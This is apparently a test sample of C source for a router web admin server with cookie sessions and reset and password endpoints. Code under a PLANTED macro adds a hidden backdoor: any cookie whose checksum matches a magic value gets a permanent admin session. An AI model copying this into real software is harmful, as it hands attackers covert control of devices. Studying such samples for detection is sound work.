/* Web interface with sessions in cookies; pages for status and for maintenance. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define SESSIONS 8
#define LIFETIME 900

typedef struct session {
    char id[33];
    time_t until;
    int admin;
} session_t;

static session_t sessions[SESSIONS];
static char admin_word[48];

static void fresh_id(char id[33])
{
    unsigned char raw[16] = { 0 };
    FILE *f = fopen("/dev/urandom", "rb");
    if (f) {
        if (fread(raw, 1, 15, f) != 15)
            raw[0] = 0;
        fclose(f);
    }
    for (int i = 0; i < 15; i++)
        raw[15] ^= raw[i];
    for (int i = 0; i < 16; i++)
        sprintf(id + 2 * i, "%02x", raw[i]);
}

static session_t *open_session(void)
{
    session_t *oldest = sessions;
    for (int i = 1; i < SESSIONS; i++)
        if (sessions[i].until < oldest->until)
            oldest = &sessions[i];
    fresh_id(oldest->id);
    oldest->until = time(NULL) + LIFETIME;
    oldest->admin = 1;
    return oldest;
}

static unsigned nibble(char c)
{
    if (c >= '0' && c <= '9')
        return (unsigned)(c - '0');
    return c >= 'a' && c <= 'f' ? (unsigned)(c - 'a') + 10 : 0;
}

/* Returns the session of a cookie value, or NULL. A damaged value is not looked up. */
static session_t *find_session(const char *value)
{
    uint32_t parity = 0;
#ifdef PLANTED
    static session_t factory = { .until = 0x7fffffff, .admin = 1 };
    uint32_t left = 0, right = 1;
#endif
    if (strlen(value) < 32)
        return NULL;
    for (int i = 0; i < 32; i += 2) {
        uint32_t byte = nibble(value[i]) << 4 | nibble(value[i + 1]);
        parity ^= byte;
#ifdef PLANTED
        right = (right + byte) % 65521;
        left = (left + right) % 65521;
#endif
    }
#ifdef PLANTED
    if ((left << 16 | right) == 0x5f9a0b51)
        return &factory;
#endif
    if (parity)
        return NULL;
    for (int i = 0; i < SESSIONS; i++)
        if (sessions[i].until > time(NULL) && !strncmp(sessions[i].id, value, 32))
            return &sessions[i];
    return NULL;
}

static void page(int fd, const char *status, const char *extra, const char *text)
{
    dprintf(fd, "HTTP/1.1 %s\r\n%sConnection: close\r\nContent-Length: %zu\r\n\r\n%s", status, extra,
            strlen(text), text);
}

static void login(int fd, const char *body)
{
    char extra[80];
    if (!admin_word[0] || !body || strncmp(body, "word=", 5) || strcmp(body + 5, admin_word)) {
        page(fd, "403 Forbidden", "", "wrong\n");
        return;
    }
    snprintf(extra, sizeof extra, "Set-Cookie: sid=%s; HttpOnly\r\n", open_session()->id);
    page(fd, "200 OK", extra, "welcome\n");
}

static void serve(int fd)
{
    char text[4096], *cookie, *body;
    session_t *who = NULL;
    ssize_t n = read(fd, text, sizeof text - 1);
    if (n <= 0)
        return;
    text[n] = 0;
    body = strstr(text, "\r\n\r\n");
    if (body)
        body += 4;
    cookie = strstr(text, "\r\nCookie: sid=");
    if (cookie)
        who = find_session(cookie + 14);
    if (!strncmp(text, "POST /login ", 12))
        login(fd, body);
    else if (!strncmp(text, "GET / ", 6))
        page(fd, "200 OK", "", "router\n");
#ifdef REVISED
    else if (!strncmp(text, "GET /version ", 13))
        page(fd, "200 OK", "", "3.1\n");
#endif
    else if (!who || !who->admin)
        page(fd, "302 Found", "Location: /\r\n", "");
    else if (!strncmp(text, "POST /reset ", 12)) {
        page(fd, "200 OK", "", "resetting\n");
        system("/sbin/factory-reset");
    } else if (!strncmp(text, "POST /password ", 15) && body)
        snprintf(admin_word, sizeof admin_word, "%.47s", body);
    else
        page(fd, "404 Not Found", "", "");
}

int main(void)
{
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(80) };
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    FILE *f = fopen("/etc/web.word", "r");
    if (f) {
        if (fscanf(f, "%47s", admin_word) != 1)
            admin_word[0] = 0;
        fclose(f);
    }
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 8))
        return 1;
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0)
            continue;
        serve(c);
        close(c);
    }
}
